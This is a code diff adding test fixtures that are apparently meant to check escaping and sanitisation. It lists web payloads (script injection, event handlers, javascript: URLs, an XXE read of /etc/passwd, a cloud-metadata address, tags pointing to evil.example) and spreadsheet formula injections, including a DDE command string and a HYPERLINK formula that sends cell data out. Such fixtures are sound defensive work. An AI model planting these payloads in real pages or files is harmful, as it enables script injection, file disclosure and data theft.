@@ -69,6 +69,56 @@ HOSTILE = {
     "empty": "",
 }
 
+WEB = {
+    "script": "<script>alert(1)</script>",
+    "script in capitals": "</TITLE><SCRIPT SRC=//evil.example/x></SCRIPT>",
+    "image that fails": "<img src=x onerror=alert(1)>",
+    "image elsewhere": '<img src="http://169.254.169.254/latest/meta-data/">',
+    "local file": '<iframe src="file:///etc/passwd"></iframe>',
+    "drawing": "<svg/onload=alert(1)>",
+    "handler in an attribute": '" onmouseover="alert(1)',
+    "handler after an apostrophe": "' autofocus onfocus='alert(1)",
+    "address that acts": '<a href="javascript:alert(1)">Acme</a>',
+    "bare address that acts": "javascript:alert(1)",
+    "data address": '<object data="data:text/html;base64,PHNjcmlwdD4=">',
+    "end of style": "</style><style>body{background:url(//evil.example)}</style>",
+    "import of style": "@import url(http://evil.example/x.css);",
+    "end of page": "</td></tr></table></body></html>",
+    "end of cdata": "]]><script>alert(1)</script>",
+    "comment": "<!-- --><script>alert(1)</script><!--",
+    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    "processing instruction": "<?php echo 1 ?><?xml-stylesheet href='http://evil.example'?>",
+    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
+    "other base": '<base href="http://evil.example/">',
+    "refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example">',
+    "stylesheet elsewhere": '<link rel="stylesheet" href="//evil.example/x.css">',
+    "form": '<form action="http://evil.example"><input name=q>',
+    "escaped already": "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "numbered": "&#60;script&#62;&#x3c;script&#x3e;",
+    "without semicolon": "&lt script&gt &ampx",
+    "split by nul": "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "full-width": "＜script＞alert(1)＜/script＞",
+    "template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
+}
+"""Names that somebody may have planted for a browser."""
+
+FORMULAS = (
+    "=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "＝1+1", "＋1", "－1", "＠x",
+    "\ufeff=1", "\u200b=1", "\u00a0=1", '=HYPERLINK("http://x?"&A1)', "safe\n=cmd", "safe\r\n=cmd", "-", "|calc", "%x",
+    "'=1", "''=1",
+)  # fmt: skip
+"""Texts that a spreadsheet would compute."""
+LINKS = (
+    "http://evil.example",
+    "ftp://evil.example",
+    "mailto:x@evil.example",
+    "internal:Sheet1!A1",
+    "external:c:\\x.xlsx",
+    "{=1+1}",
+)
+"""Texts that a spreadsheet's library makes links and formulas of, unless it is told not to."""
+
 _POOL = [
     *map(chr, range(0x180)),
     *"\u0301\u0316\u20dd\u200b\u2028\u202a\u202e\u2066\ufe0f\ufeff\ud800\udce9\ue000\U000e0041\U0001f600株ﾊ",
